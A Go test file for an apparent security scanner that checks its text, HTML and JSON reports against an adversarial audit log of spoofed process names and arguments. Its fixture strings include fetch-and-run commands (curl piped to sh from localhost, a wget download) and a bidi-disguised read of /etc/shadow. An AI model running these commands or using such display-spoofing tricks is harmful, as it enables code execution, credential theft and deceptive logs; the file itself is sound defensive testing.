package main

import (
	"encoding/hex"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"
)

const displayLog = "../../testdata/adversarial/display/audit.log"

// hiddenRune reports a rune a reader cannot see or that reorders or
// replaces what is shown: C0/C1 controls but \n (the report's own line
// breaks), format characters (bidi, zero width), the line separators and
// U+FFFD (which hides which bytes were there).
func hiddenRune(r rune) bool {
	return (r < 0x20 && r != '\n') || r == 0x7f || (r >= 0x80 && r < 0xa0) ||
		unicode.Is(unicode.Cf, r) || r == '\u2028' || r == '\u2029' || r == utf8.RuneError
}

func checkVisible(t *testing.T, format, out string) {
	t.Helper()
	if !utf8.ValidString(out) {
		t.Errorf("%s: the report is not valid UTF-8", format)
	}
	for i, r := range out {
		if hiddenRune(r) {
			t.Errorf("%s: invisible or replaced rune %U reaches the report: %q", format, r, out[max(0, i-60):min(len(out), i+20)])
			return
		}
	}
}

// TestAdversarialDisplay: attacker-controlled argv, comm and cwd holding
// bidi overrides, zero-width characters, C1 and ESC controls, bytes that
// are not UTF-8, a newline before a fake timeline line, and one long token
// in front of the payload. Text and HTML show each escaped (\u202e, \x9b,
// \xff: never U+FFFD, which loses which bytes were there), the payload
// after the long token stays on screen, and JSON keeps the exact bytes.
func TestAdversarialDisplay(t *testing.T) {
	type out struct{ format, text string }
	var outs []out
	for _, f := range []string{"text", "html"} {
		code, stdout, stderr := runCLIWithin(t, 60*time.Second, nil, "scan", "--format", f, "--reproducible", "--fail-on", "none", displayLog)
		if code != exitOK {
			t.Fatalf("%s: exit %d: %s", f, code, stderr)
		}
		checkVisible(t, f, stdout)
		outs = append(outs, out{f, stdout})
	}
	for _, o := range outs {
		for _, want := range []string{
			`/etc/\u202ewodahs\u202c`, `c\u200bat`, `\x9b31m\x1b[2Jfake`,
			`/tmp/\xff\xfe.\xed\xa0\x80`,
			`curl http://127.0.0.1/a.sh | sh`,
			`id\n    2026-12-03T14:13:01.100Z  F0009`,
		} {
			if !strings.Contains(o.text, want) {
				t.Errorf("%s: %q is not shown", o.format, want)
			}
		}
		if o.format == "text" && !strings.Contains(o.text, `cwd /var/www/\xff`) {
			t.Errorf("text: the cwd's bad byte is not shown as \\xff")
		}
		if o.format == "text" && strings.Contains(o.text, "\n    2026-12-03T14:13:01.100Z  F0009") {
			t.Errorf("text: the argv's newline started a line of the report")
		}
	}

	// JSON keeps the exact bytes of every argument.
	code, stdout, stderr := runCLIWithin(t, 60*time.Second, nil, "scan", "--format", "json", "--reproducible", "--fail-on", "none", displayLog)
	if code != exitOK {
		t.Fatalf("json: exit %d: %s", code, stderr)
	}
	var doc struct {
		Findings []struct {
			Process struct {
				Args    []string `json:"args"`
				ArgsHex []string `json:"args_hex"`
				CwdHex  string   `json:"cwd_hex"`
			} `json:"process"`
		} `json:"findings"`
	}
	if err := json.Unmarshal([]byte(stdout), &doc); err != nil {
		t.Fatal(err)
	}
	exact := map[string]bool{}
	for _, f := range doc.Findings {
		args := f.Process.Args
		if f.Process.ArgsHex != nil {
			args = nil
			for _, h := range f.Process.ArgsHex {
				b, err := hex.DecodeString(h)
				if err != nil {
					t.Fatal(err)
				}
				args = append(args, string(b))
			}
		}
		for _, a := range args {
			exact[a] = true
		}
	}
	for _, want := range []string{
		"cat /etc/\u202ewodahs\u202c # ok\u2066x\u2069",
		"\u009b31m\x1b[2Jfake",
		"wget -O /tmp/\xff\xfe.\xed\xa0\x80 http://127.0.0.1/x",
		": " + strings.Repeat("B", 4000) + "; curl http://127.0.0.1/a.sh | sh",
	} {
		if !exact[want] {
			t.Errorf("json: argument %q is not kept exactly", want[:min(len(want), 40)])
		}
	}
}

// TestAdversarialDisplayBrowser renders the HTML report in headless
// Chromium, when the machine has it, and checks the page as the browser
// built it: no bidi, zero-width or control character in the DOM.
func TestAdversarialDisplayBrowser(t *testing.T) {
	var browser string
	for _, b := range []string{"chromium", "chromium-browser", "google-chrome"} {
		if p, err := exec.LookPath(b); err == nil {
			browser = p
			break
		}
	}
	if browser == "" || testing.Short() {
		t.Skip("no headless browser")
	}
	code, stdout, stderr := runCLIWithin(t, 60*time.Second, nil, "scan", "--format", "html", "--reproducible", "--fail-on", "none", displayLog)
	if code != exitOK {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	page := filepath.Join(t.TempDir(), "r.html")
	if err := os.WriteFile(page, []byte(stdout), 0o600); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(browser, "--headless", "--no-sandbox", "--disable-gpu", "--dump-dom", "file://"+page)
	dom, err := cmd.Output()
	if err != nil {
		t.Skipf("browser did not run: %v", err)
	}
	s := strings.NewReplacer("\t", " ", "\r", " ").Replace(string(dom))
	checkVisible(t, "html (DOM)", s)
	if !strings.Contains(s, `/etc/\u202ewodahs`) || !strings.Contains(s, `/tmp/\xff\xfe.`) {
		t.Errorf("the escapes are not in the page")
	}
}
